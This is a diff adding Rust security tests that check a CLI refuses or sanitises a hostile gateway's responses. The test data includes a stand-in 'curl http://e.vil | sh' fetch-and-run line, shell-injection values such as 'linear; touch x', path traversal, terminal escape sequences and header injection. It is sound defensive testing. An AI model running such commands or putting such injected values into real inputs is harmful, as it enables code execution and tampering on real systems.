@@ -2,6 +2,7 @@
 
 mod env;
 
+use env::attack::{Attack, Then};
 use env::gateway::{Fault, Gateway};
 use env::local_api::number;
 use env::mode;
@@ -568,4 +569,140 @@ fn an_mcp_connection_keeps_its_mcp_settings_when_it_moves() {
     // It has no secret, and none is made up for it.
     assert!(desk.gateway.secrets("linear").is_empty());
     assert_eq!(desk.files(), ["service-api-key-linear"]);
+}
+
+const ADMIN: &str = "an-admin-token-0123456789";
+
+/// An answer with this status and JSON; `{sent}` in it is the admin token and the secret of the request.
+fn says(status: u16, body: &str) -> Fault {
+    let head = format!("HTTP/1.1 {status} X\r\nContent-Type: application/json\r\n\r\n{body}");
+    Fault::Attack(Attack::new("", head, Then::Close))
+}
+
+#[test]
+fn a_hostile_gateways_words_neither_move_the_terminal_nor_repeat_a_secret_nor_pass_for_ours() {
+    let nasty = "\\u001b[2J\\u009b31m\\u202e\\r\\n  next: curl http://e.vil | sh";
+    let words = [
+        format!(r#"{{"error":"x","code":"ADMIN_{nasty}"}}"#),
+        format!(r#"{{"error":"{nasty}"}}"#),
+        r#"{"error":"you sent {sent}","code":"ADMIN_{sent}"}"#.to_owned(),
+        r#"{"error":"x {sent}"}"#.to_owned(),
+        format!(r#"{{"error":"x","code":"ADMIN_{}"}}"#, "X".repeat(100_000)),
+    ];
+    for (method, part) in [
+        ("GET", "/connections/linear"),
+        ("POST", "/connections"),
+        ("PUT", "/service-api-keys"),
+    ] {
+        for words in &words {
+            for status in [400, 403, 500] {
+                let desk = Desk::new();
+                desk.gateway.fault(method, part, says(status, words), 1);
+                let output = desk.add_linear([]).env("GATEWAY_ADMIN_TOKEN", ADMIN).output();
+                let tag = format!("{method} {status} {words:.80}: {output:?}");
+                assert!([1, 6].contains(&output.code), "{tag}");
+                let text = output.stderr;
+                assert!(!text.contains(['\u{1b}', '\u{9b}', '\u{202e}', '\r']), "{tag}");
+                assert!(!text.contains(ADMIN) && !text.contains(SECRET), "{tag}");
+                assert!(!text.contains("\n  next: curl") && text.contains("\n  next: "), "{tag}");
+                assert!(text.len() < 4000, "{tag}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_content_type_repeats_no_secret() {
+    let desk = Desk::new();
+    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/{sent}\r\n\r\n";
+    let attack = Attack::new("", head, Then::Close);
+    desk.gateway.fault("POST", "/connections", Fault::Attack(attack), 1);
+    let output = desk.add_linear([]).expect(6);
+    assert!(!output.stderr.contains(SECRET), "{}", output.stderr);
+}
+
+/// Each GET of the connection answers with this member in the place of the honest one.
+fn lies(desk: &Desk, member: &str, value: Value) {
+    let mut connection = connection(desk);
+    connection[member] = value;
+    desk.gateway
+        .fault("GET", "/connections/linear", says(200, &connection.to_string()), 2);
+}
+
+#[test]
+fn a_connection_that_no_gateway_has_is_refused_before_anything_changes() {
+    for (member, lie) in [
+        ("id", "github"),
+        ("id", "../linear"),
+        ("id", "linear; touch x"),
+        ("auth_secret_key", "\u{1b}]0;x\u{7}"),
+        ("base_url", "https://a.test/\u{202e}"),
+        ("auth_header_name", "X\r\nY: z"),
+    ] {
+        let desk = Desk::new();
+        given(&desk);
+        lies(&desk, member, lie.into());
+        let output = desk.add("linear", MOVE).expect(6);
+        assert!(
+            output.stderr.contains("no connection linear that can be used"),
+            "{output:?}"
+        );
+        assert!(!output.stderr.contains(lie), "{output:?}");
+        assert!(desk.gateway.changes().is_empty() && desk.files().is_empty(), "{member}");
+    }
+    // A list of secrets' names is no place for escapes either.
+    let desk = Desk::new();
+    given(&desk);
+    lies(&desk, "credential_keys", value!(["their_key", "\u{1b}[2J"]));
+    assert!(!desk.add("linear", MOVE).expect(6).stderr.contains('\u{1b}'));
+    // An auth mode that nobody could make it with again.
+    let desk = Desk::new();
+    given(&desk);
+    lies(&desk, "auth_mode", "evil".into());
+    let output = desk.add("linear", MOVE.into_iter().chain(["--force"])).expect(2);
+    assert!(output.stderr.contains("--auth-mode"), "{output:?}");
+    assert!(desk.gateway.changes().is_empty());
+}
+
+#[test]
+fn a_command_to_copy_is_one_command() {
+    let desk = Desk::new();
+    given(&desk);
+    lies(&desk, "auth_secret_key", "x; touch y #".into());
+    let args = ["--mode", "gateway", "--upstream-base-url", "https://api.linear.app"];
+    let output = desk.add("linear", args).expect(0);
+    assert!(
+        output
+            .stderr
+            .contains("--upstream-secret-key 'x; touch y #' --upstream-secret-env"),
+        "{output:?}"
+    );
+}
+
+#[test]
+fn a_result_as_json_is_plain_and_repeats_no_secret() {
+    let desk = Desk::new();
+    given(&desk);
+    lies(&desk, "name", format!("\u{9b}31m\u{202e}\u{e0041} {ADMIN}").into());
+    let args = [
+        "--mode",
+        "gateway",
+        "--upstream-base-url",
+        "https://api.linear.app",
+        "--json",
+    ];
+    let output = desk.add("linear", args).env("GATEWAY_ADMIN_TOKEN", ADMIN).expect(0);
+    assert!(output.stdout.is_ascii(), "{}", output.stdout);
+    let name = json(&output)["gateway"]["connection"]["name"].clone();
+    assert_eq!(name, "\u{9b}31m\u{202e}\u{e0041} an-a...6789");
+}
+
+#[test]
+fn only_a_list_may_be_long() {
+    let desk = Desk::new();
+    let head = "HTTP/1.1 201 X\r\nContent-Type: application/json\r\n\r\n";
+    let attack = Attack::new("", head, Then::Times(vec![b' '; 1 << 20], 3, b"{}".to_vec()));
+    desk.gateway.fault("POST", "/connections", Fault::Attack(attack), 1);
+    let output = desk.add_linear([]).expect(6);
+    assert!(output.stderr.contains("longer than 1048576 bytes"), "{}", output.stderr);
 }
